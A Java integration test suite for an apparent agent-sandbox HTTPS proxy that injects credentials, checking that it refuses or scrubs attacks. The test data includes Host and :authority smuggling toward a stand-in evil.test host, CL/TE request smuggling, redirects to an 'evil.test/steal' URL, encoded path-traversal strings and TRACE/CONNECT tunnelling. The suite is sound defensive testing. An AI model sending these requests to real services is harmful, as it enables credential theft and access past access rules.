package dev.agentsandbox.proxy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.agentsandbox.policy.event.DecisionRecord;
import dev.agentsandbox.policy.net.Reason;
import java.io.IOException;
import java.io.OutputStream;
import java.net.ProxySelector;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;
import javax.net.ssl.SSLSocket;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The attacks on an inspected host (docs/proxy.md, "Inspected hosts: the threat model"), each
 * against real loopback HTTPS servers: smuggling the credential to another host, naming different
 * hosts in SNI, Host and :authority, a redirect to an attacker, an upstream that echoes headers,
 * path tricks, a pipelined or multiplexed second request that breaks the rules. The workload's side
 * is a raw TLS socket or a hand-driven HTTP/2 client, so that nothing a client library normalises
 * hides an attack.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class InspectAttackIT {
  private InspectWorld world;

  @BeforeAll
  void start() throws Exception {
    world = new InspectWorld();
  }

  @AfterAll
  void stop() throws IOException {
    world.close();
  }

  /**
   * Sends raw HTTP/1.1 bytes in a tunnel to {@code target} (SNI {@code sni}); reads to the close.
   */
  private String raw(String target, String sni, String bytes) throws Exception {
    // The run's CA for the inspected host, the public one for the opaque hosts, as a bundle has.
    try (SSLSocket socket =
        world.tunnel(
            target, sni, InspectWorld.trusting(world.runCa(), world.publicCa.certificate()))) {
      OutputStream out = socket.getOutputStream();
      out.write(bytes.getBytes(StandardCharsets.ISO_8859_1));
      out.flush();
      return Fixture.readAll(socket.getInputStream());
    }
  }

  private String host() {
    return world.apiTarget();
  }

  private String get(String path) {
    return "GET " + path + " HTTP/1.1\r\nHost: " + host() + "\r\nConnection: close\r\n\r\n";
  }

  private boolean tokenSeenBy(TlsUpstream upstream) {
    return upstream.seen().stream()
        .anyMatch(seen -> seen.headers().toString().contains(InspectWorld.TOKEN));
  }

  // ---- the credential reaches only its host ----

  @Test
  void aHostHeaderNamingAnotherHostIsRefusedAndReachesNoOne() throws Exception {
    int api = world.api.seen().size();
    int evil = world.evil.seen().size();
    String answer =
        raw(
            host(),
            "api.test",
            "GET /repos/acme/x HTTP/1.1\r\nHost: evil.test:" + world.evil.port() + "\r\n\r\n");
    assertThat(answer)
        .startsWith("HTTP/1.1 403")
        .contains("X-Agent-Sandbox-Denied: authority-mismatch");
    assertThat(world.api.seen()).hasSize(api);
    assertThat(world.evil.seen()).hasSize(evil);
  }

  @Test
  void twoHostHeadersAreRefused() throws Exception {
    String answer =
        raw(
            host(),
            "api.test",
            "GET /repos/acme/x HTTP/1.1\r\nHost: " + host() + "\r\nHost: evil.test\r\n\r\n");
    assertThat(answer).startsWith("HTTP/1.1 4");
    assertThat(tokenSeenBy(world.evil)).isFalse();
  }

  @Test
  void anAbsoluteFormTargetInsideTheTunnelIsRefused() throws Exception {
    int evil = world.evil.seen().size();
    String answer =
        raw(
            host(),
            "api.test",
            "GET https://evil.test:"
                + world.evil.port()
                + "/steal HTTP/1.1\r\nHost: "
                + host()
                + "\r\n\r\n");
    assertThat(answer)
        .startsWith("HTTP/1.1 403")
        .contains("X-Agent-Sandbox-Denied: path-not-allowed");
    assertThat(world.evil.seen()).hasSize(evil);
  }

  @Test
  void ambiguousFramingIsRefusedBeforeAnythingIsSent() throws Exception {
    int api = world.api.seen().size();
    String smuggled =
        "POST /repos/acme/widgets/issues HTTP/1.1\r\nHost: "
            + host()
            + "\r\n"
            + "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /gists HTTP/1.1\r\nHost: "
            + host()
            + "\r\n\r\n";
    assertThat(raw(host(), "api.test", smuggled)).startsWith("HTTP/1.1 400");
    assertThat(world.api.seen()).hasSize(api);
  }

  @Test
  void theCredentialNeverGoesToAnOpaqueHostOrThroughPlainHttp() throws Exception {
    String opaque =
        raw(
            "other.test:" + world.other.port(),
            "other.test",
            "GET /repos/acme/x HTTP/1.1\r\nHost: other.test:"
                + world.other.port()
                + "\r\nAuthorization: Bearer proxy-managed\r\nConnection: close\r\n\r\n");
    assertThat(opaque).startsWith("HTTP/1.1 200");
    assertThat(world.other.seen().getLast().header("Authorization"))
        .isEqualTo("Bearer proxy-managed");
    assertThat(tokenSeenBy(world.other)).isFalse();
  }

  @Test
  void aClientsOwnHeaderOfTheInjectedNameIsReplacedNotAddedTo() throws Exception {
    int before = world.api.seen().size();
    String answer =
        raw(
            host(),
            "api.test",
            "GET /repos/acme/x HTTP/1.1\r\nHost: "
                + host()
                + "\r\nauthorization: Bearer attacker\r\nAUTHORIZATION: Basic x\r\nConnection: close\r\n\r\n");
    assertThat(answer).startsWith("HTTP/1.1 200");
    Upstream.Seen seen = world.api.seen().get(before);
    assertThat(
            seen.headers().entrySet().stream()
                .filter(e -> e.getKey().equalsIgnoreCase("Authorization"))
                .flatMap(e -> e.getValue().stream())
                .toList())
        .containsExactly("Bearer " + InspectWorld.TOKEN);
  }

  // ---- SNI, Host and :authority ----

  @Test
  void aServerNameOtherThanTheConnectTargetIsRefused() {
    assertThatThrownBy(() -> world.tunnel(host(), "other.test", world.workloadTls()))
        .isInstanceOf(IOException.class);
    DecisionRecord refusal =
        world.decisions.await(
            d -> d.reason() == Reason.SNI_MISMATCH && d.host().equals("api.test"));
    assertThat(refusal.detail()).contains("other.test");
  }

  @Test
  void anHttp2AuthorityNamingAnotherHostIsRefused() throws Exception {
    int before = world.evil.seen().size();
    try (H2Tunnel h2 = new H2Tunnel(world.proxyAddress(), host(), "api.test", world.runCa())) {
      H2Tunnel.Answer evil =
          h2.send(H2Tunnel.request("GET", "/repos/acme/x", "evil.test:" + world.evil.port()), null);
      assertThat(evil.status()).isEqualTo(403);
      assertThat(evil.denied()).isEqualTo("authority-mismatch");
      H2Tunnel.Answer twice =
          h2.send(H2Tunnel.request("GET", "/repos/acme/x", host()).add("host", "evil.test"), null);
      // Netty's HTTP/2 codec resets a stream whose :authority and host differ before a request
      // exists; the proxy reports the refusal.
      assertThat(twice.status()).as("reset, never answered").isZero();
      assertThat(
              world
                  .decisions
                  .await(d -> d.reason() == Reason.BAD_REQUEST && d.detail().contains(":authority"))
                  .host())
          .isEqualTo("api.test");
      H2Tunnel.Answer plain =
          h2.send(H2Tunnel.request("GET", "/repos/acme/x", host()).scheme("http"), null);
      assertThat(plain.status()).isEqualTo(403);
      assertThat(plain.denied()).isEqualTo("authority-mismatch");
      H2Tunnel.Answer good = h2.send(H2Tunnel.request("GET", "/repos/acme/x", host()), null);
      assertThat(good.status()).as("the same connection still serves a good stream").isEqualTo(200);
    }
    assertThat(world.evil.seen()).hasSize(before);
  }

  // ---- redirects and echoes ----

  @Test
  void aRedirectToAnAttackerIsRelayedNeverFollowedAndTheCredentialStaysHome() throws Exception {
    int evil = world.evil.seen().size();
    HttpClient following =
        HttpClient.newBuilder()
            .proxy(ProxySelector.of(world.proxyAddress()))
            .sslContext(InspectWorld.trusting(world.runCa(), world.publicCa.certificate()))
            .followRedirects(HttpClient.Redirect.NEVER)
            .build();
    HttpResponse<String> redirect =
        following.send(
            HttpRequest.newBuilder(URI.create("https://" + host() + "/redirect")).build(),
            HttpResponse.BodyHandlers.ofString());
    assertThat(redirect.statusCode()).isEqualTo(302);
    assertThat(redirect.headers().firstValue("Location")).contains("https://evil.test/steal");
    assertThat(world.evil.seen()).as("the proxy followed nothing").hasSize(evil);
    // A client that follows it makes a new request, decided afresh: evil.test is an opaque host
    // here, and no credential is set on it.
    HttpResponse<String> followed =
        following.send(
            HttpRequest.newBuilder(URI.create("https://evil.test:" + world.evil.port() + "/steal"))
                .header("Authorization", "Bearer proxy-managed")
                .build(),
            HttpResponse.BodyHandlers.ofString());
    assertThat(followed.statusCode()).isEqualTo(200);
    assertThat(tokenSeenBy(world.evil)).isFalse();
  }

  @Test
  void anUpstreamEchoingTheRequestHeadersGetsItsEchoScrubbed() throws Exception {
    String answer =
        raw(
            host(),
            "api.test",
            "GET /echo HTTP/1.1\r\nHost: "
                + host()
                + "\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n");
    assertThat(answer).startsWith("HTTP/1.1 200");
    assertThat(answer).doesNotContain(InspectWorld.TOKEN);
    assertThat(answer).contains("Bearer " + "*".repeat(InspectWorld.TOKEN.length()));
    assertThat(answer.toLowerCase(java.util.Locale.ROOT))
        .contains("x-echo-authorization: bearer " + "*".repeat(InspectWorld.TOKEN.length()));
    assertThat(world.api.seen().getLast().header("Accept-Encoding"))
        .as("asked for an answer that can be scrubbed")
        .isEqualTo("identity");
  }

  @Test
  void aCompressedAnswerThatCannotBeScrubbedIsNotRelayed() throws Exception {
    String answer = raw(host(), "api.test", get("/gzip"));
    assertThat(answer).startsWith("HTTP/1.1 502");
    assertThat(answer).doesNotContain("Content-Encoding: gzip");
  }

  @Test
  void anEchoSplitAcrossBodyPartsIsScrubbedToo() throws Exception {
    Scrubber scrubber = new Scrubber(InspectWorld.TOKEN.getBytes(StandardCharsets.US_ASCII));
    String text = "before " + InspectWorld.TOKEN + " middle " + InspectWorld.TOKEN + " after";
    StringBuilder out = new StringBuilder();
    io.netty.buffer.ByteBufAllocator alloc = io.netty.buffer.UnpooledByteBufAllocator.DEFAULT;
    for (int i = 0; i < text.length(); i += 5) {
      boolean last = i + 5 >= text.length();
      io.netty.buffer.ByteBuf part =
          io.netty.buffer.Unpooled.copiedBuffer(
              text.substring(i, Math.min(text.length(), i + 5)), StandardCharsets.US_ASCII);
      io.netty.buffer.ByteBuf scrubbed = scrubber.body(part, last, alloc);
      out.append(scrubbed.toString(StandardCharsets.US_ASCII));
      scrubbed.release();
    }
    String mask = "*".repeat(InspectWorld.TOKEN.length());
    assertThat(out.toString()).isEqualTo("before " + mask + " middle " + mask + " after");
    assertThat(scrubber.replaced()).isEqualTo(2);
  }

  // ---- path tricks ----

  static Stream<Arguments> pathTricks() {
    return Stream.of(
        Arguments.of(
            "dot-dot out of the allowed tree", "/repos/acme/../evil", "path-not-allowed", null),
        Arguments.of("encoded dot-dot", "/repos/acme/%2e%2e/evil", "path-not-allowed", null),
        Arguments.of("encoded slash", "/repos/acme%2F..%2F..%2Fgists", "path-not-allowed", null),
        // Inside the allowed tree, so only the encoded-slash rule refuses it: decoded, it would
        // pass as /repos/acme/x/y, a request the client did not send (never guessed).
        Arguments.of(
            "an encoded slash inside the allowed tree",
            "/repos/acme/x%2Fy",
            "path-not-allowed",
            null),
        Arguments.of(
            "repeated slashes are merged, and sent merged",
            "//repos//acme/x",
            null,
            "/repos/acme/x"),
        Arguments.of(
            "a dot segment is removed, and sent removed", "/repos/acme/./x", null, "/repos/acme/x"),
        Arguments.of(
            "dot-dot inside the tree is resolved first",
            "/repos/acme/a/../b",
            null,
            "/repos/acme/b"),
        Arguments.of("path parameters", "/repos/acme;x=1/../../gists", "path-not-allowed", null),
        Arguments.of(
            "overlong UTF-8 dots", "/repos/acme/%c0%ae%c0%ae/evil", "path-not-allowed", null),
        Arguments.of("double encoding", "/repos/acme/%252e%252e/evil", "path-not-allowed", null),
        Arguments.of("a backslash", "/repos/acme\\..\\..\\gists", "path-not-allowed", null),
        Arguments.of(
            "a case-changed owner (stricter, never looser)",
            "/repos/ACME/x",
            "path-not-allowed",
            null));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("pathTricks")
  void pathTricksAreNormalisedOrRefusedNeverGuessed(
      String name, String path, String denied, String sent) throws Exception {
    int before = world.api.seen().size();
    String answer = raw(host(), "api.test", get(path));
    if (denied != null) {
      assertThat(answer)
          .as(name)
          .startsWith("HTTP/1.1 403")
          .contains("X-Agent-Sandbox-Denied: " + denied);
      assertThat(world.api.seen()).as(name + ": nothing reached the upstream").hasSize(before);
    } else {
      assertThat(answer).as(name).startsWith("HTTP/1.1 200");
      assertThat(world.api.seen().get(before).path()).as(name).isEqualTo(sent);
    }
  }

  @Test
  void aFragmentIsRefused() throws Exception {
    // A client never sends one; a raw request that does is ambiguous about where the path ends.
    String answer = raw(host(), "api.test", get("/repos/acme/x#/../../../gists"));
    assertThat(answer).startsWith("HTTP/1.1 4");
    assertThat(world.api.seen().stream().map(Upstream.Seen::path)).doesNotContain("/gists");
  }

  // ---- the workload's own certificates, and the CA's key ----

  @Test
  void aClientCertificateTheWorkloadOffersIsNeverAskedForNorPassedOn() throws Exception {
    // The workload brings a chain of its own, with a key: the proxy asks for no client
    // certificate, so none is presented, and the upstream connection carries the proxy's TLS only.
    javax.net.ssl.SSLContext own = javax.net.ssl.SSLContext.getInstance("TLS");
    java.security.KeyStore keys = java.security.KeyStore.getInstance("PKCS12");
    keys.load(null, null);
    TestCa workloadCa = TestCa.create("a workload's own CA");
    javax.net.ssl.KeyManagerFactory managers =
        javax.net.ssl.KeyManagerFactory.getInstance(
            javax.net.ssl.KeyManagerFactory.getDefaultAlgorithm());
    java.security.KeyPairGenerator generator = java.security.KeyPairGenerator.getInstance("EC");
    generator.initialize(256);
    java.security.KeyPair pair = generator.generateKeyPair();
    keys.setKeyEntry(
        "me",
        pair.getPrivate(),
        new char[0],
        new java.security.cert.Certificate[] {workloadCa.certificate()});
    managers.init(keys, new char[0]);
    javax.net.ssl.TrustManagerFactory trust =
        javax.net.ssl.TrustManagerFactory.getInstance(
            javax.net.ssl.TrustManagerFactory.getDefaultAlgorithm());
    java.security.KeyStore anchors = java.security.KeyStore.getInstance("PKCS12");
    anchors.load(null, null);
    anchors.setCertificateEntry("run", world.runCa());
    trust.init(anchors);
    own.init(managers.getKeyManagers(), trust.getTrustManagers(), null);
    try (SSLSocket socket = world.tunnel(host(), "api.test", own)) {
      assertThat(socket.getSession().getLocalCertificates())
          .as("no client certificate was asked for")
          .isNull();
      socket.getOutputStream().write(get("/repos/acme/x").getBytes(StandardCharsets.ISO_8859_1));
      assertThat(Fixture.readAll(socket.getInputStream())).startsWith("HTTP/1.1 200");
    }
  }

  @Test
  void theWorkloadIsHandedTheRootOnlyAndTheChainItSeesEndsThere() throws Exception {
    try (SSLSocket socket = world.tunnel(host(), "api.test", world.workloadTls())) {
      java.security.cert.Certificate[] chain = socket.getSession().getPeerCertificates();
      assertThat(chain).hasSize(3);
      assertThat(
              ((java.security.cert.X509Certificate) chain[0]).getSubjectX500Principal().getName())
          .isEqualTo("CN=api.test");
      assertThat(chain[2]).isEqualTo(world.runCa());
      assertThat(world.proxy.caCertificatePem().orElseThrow()).doesNotContain("PRIVATE");
    }
  }

  // ---- the second half of a pipeline or a multiplexed connection ----

  @Test
  void aPipelinedSecondRequestThatBreaksTheRulesIsRefusedAndNothingBehindItIsRead()
      throws Exception {
    int before = world.api.seen().size();
    String pipelined =
        "GET /repos/acme/first HTTP/1.1\r\nHost: "
            + host()
            + "\r\n\r\n"
            + "POST /gists HTTP/1.1\r\nHost: "
            + host()
            + "\r\nContent-Length: 6\r\n\r\nsecret"
            + "GET /repos/acme/third HTTP/1.1\r\nHost: "
            + host()
            + "\r\n\r\n";
    String answer = raw(host(), "api.test", pipelined);
    assertThat(answer).startsWith("HTTP/1.1 200");
    assertThat(answer).contains("hello from api at /repos/acme/first");
    assertThat(answer)
        .contains("HTTP/1.1 403")
        .contains("X-Agent-Sandbox-Denied: path-not-allowed");
    assertThat(answer).doesNotContain("/repos/acme/third");
    assertThat(world.api.seen().subList(before, world.api.seen().size()))
        .extracting(Upstream.Seen::path)
        .containsExactly("/repos/acme/first");
  }

  @Test
  void multiplexedStreamsAreDecidedEachOnItsOwn() throws Exception {
    HttpClient client =
        HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_2)
            .proxy(ProxySelector.of(world.proxyAddress()))
            .sslContext(world.workloadTls())
            .build();
    int before = world.api.seen().size();
    List<CompletableFuture<HttpResponse<String>>> answers =
        Stream.of("/repos/acme/one", "/gists", "/repos/acme/two", "/user/keys")
            .map(
                path ->
                    client.sendAsync(
                        HttpRequest.newBuilder(URI.create("https://" + host() + path))
                            .timeout(Duration.ofSeconds(20))
                            .build(),
                        HttpResponse.BodyHandlers.ofString()))
            .toList();
    List<Integer> codes = answers.stream().map(f -> f.join().statusCode()).toList();
    assertThat(codes).containsExactly(200, 403, 200, 403);
    assertThat(answers.get(0).join().version()).isEqualTo(HttpClient.Version.HTTP_2);
    assertThat(world.api.seen().subList(before, world.api.seen().size()))
        .extracting(Upstream.Seen::path)
        .containsExactlyInAnyOrder("/repos/acme/one", "/repos/acme/two");
  }

  @Test
  void traceAndConnectAreRefusedOnAHostWithoutRulesToo() throws Exception {
    // Inspected only to inject: every method passes, but an echo and a tunnel never do.
    try (InspectWorld open = new InspectWorld(null)) {
      try (SSLSocket socket = open.tunnel(open.apiTarget(), "api.test", open.workloadTls())) {
        socket
            .getOutputStream()
            .write(
                ("TRACE /anything HTTP/1.1\r\nHost: " + open.apiTarget() + "\r\n\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1));
        assertThat(Fixture.readAll(socket.getInputStream()))
            .startsWith("HTTP/1.1 403")
            .contains("method-not-allowed");
      }
      try (SSLSocket socket = open.tunnel(open.apiTarget(), "api.test", open.workloadTls())) {
        socket
            .getOutputStream()
            .write(
                ("DELETE /anything HTTP/1.1\r\nHost: "
                        + open.apiTarget()
                        + "\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1));
        assertThat(Fixture.readAll(socket.getInputStream()))
            .as("without rules, any other method passes")
            .startsWith("HTTP/1.1 200");
      }
      assertThat(open.api.seen()).extracting(Upstream.Seen::method).containsExactly("DELETE");
    }
  }

  @Test
  void traceAndConnectInsideTheTunnelAreRefusedWhateverTheRules() throws Exception {
    assertThat(
            raw(host(), "api.test", "TRACE /repos/acme/x HTTP/1.1\r\nHost: " + host() + "\r\n\r\n"))
        .startsWith("HTTP/1.1 403")
        .contains("method-not-allowed");
    assertThat(
            raw(
                host(),
                "api.test",
                "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"))
        .startsWith("HTTP/1.1 4");
  }
}
